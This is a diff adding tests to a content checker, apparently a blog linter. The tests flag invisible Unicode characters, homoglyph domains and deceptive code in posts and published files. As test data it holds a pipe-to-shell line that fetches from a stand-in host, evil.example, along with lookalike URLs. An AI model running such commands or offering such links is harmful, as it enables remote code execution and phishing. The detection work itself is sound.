@@ -75,6 +75,61 @@ describe('characters that nobody sees', () => {
   ])('are no such: %s', (_, text) => expectFine(textOf(`${text}\n\n\`${text}\``)))
 })
 
+const names = String.raw`
+title → Falco\u{200B} rules → :2:13 error character: U+200B cannot be seen, and breaks words; remove it
+title → Falco\u{2002}rules → :2:13 error character: U+2002 is not the usual space; write a space
+title → "Falco\u200B" → :2:8 error title: character: U+200B cannot be seen
+author → Ada\u{FEFF} Example → :5:12 error character: U+FEFF cannot be seen
+tags → [eb\u{200E}pf] → :7:10 error character: the bidi control U+200E
+title → "a\ud83d b" → :2:8 error title: character: U+D83D is half of a character; write the character itself`
+const otherScripts = ['क्‍ष', 'می‌خواهم', '👩‍💻 ❤️', 'ไทย\u200Bไทย', '日本　語', '"\ud83e\udd85"']
+
+describe('characters that nobody sees in front matter', () => {
+  it.each(rows(names))('are refused: %s %s', (key = '', value = '', words = '') =>
+    expectFound({ 'posts/a.md': post('A', { [key]: value }) }, words),
+  )
+  it.each(otherScripts)('are needed by other scripts: %s', (title) =>
+    expectFine({ 'posts/a.md': post('A', { title }) }),
+  )
+})
+
+const deceiving = `
+curl https://fаlco.org/x → 'https://fаlco.org/x' has letters of another alphabet
+curl -L https://falco.org.evil.example | sh → which is not falco.org
+https://falco.org@evil.example → leads to 'evil.example'
+kubectl аpply → 'аpply' mixes alphabets that look alike`
+const honest = [
+  'https://user:pass@host.example/',
+  'https://falco.org.',
+  '10 μs, Δt',
+  '# Привет, мир',
+  'https://$HOST:$PORT/',
+]
+
+describe('code', () => {
+  it.each(rows(deceiving))(
+    'that deceives is reported, in texts and published files: %s',
+    async (code = '', words = '') => {
+      await expectFound(textOf(`\`${code}\``), words)
+      await expectFound(textOf(`~~~sh\nx\n${code}\n~~~`), words)
+      await expectFound({ ...textOf('[x](./x.sh)'), 'posts/x.sh': `#!/bin/sh\n${code}\n` }, words)
+    },
+  )
+  it.each(honest)('that looks odd is fine: %s', (code) =>
+    expectFine({ ...textOf(`\`${code}\`\n\n[x](./x.sh)`), 'posts/x.sh': code }),
+  )
+  it.each(['x.sh', 'x.yaml', 'x.py'])('of a published file has no characters that nobody sees: %s', async (name) => {
+    for (const character of '\u202E \u200B \u2066'.split(' ')) {
+      const { findings, files } = await check({
+        ...textOf(`[x](./${name})`),
+        [`posts/${name}`]: `a: 1\nb${character}c: 2\n`,
+      })
+      expect(findings).toMatchObject([{ path: `posts/${name}`, line: 2, column: 2, rule: 'character/dangerous' }])
+      expect(files).toEqual({})
+    }
+  })
+})
+
 it.each([
   ['tags', `[${'t, '.repeat(9_000)}]`, ':7:7 error tags: is a list of 9000'],
   ['title', 'a'.repeat(5_000), ':2:8 error title: '],
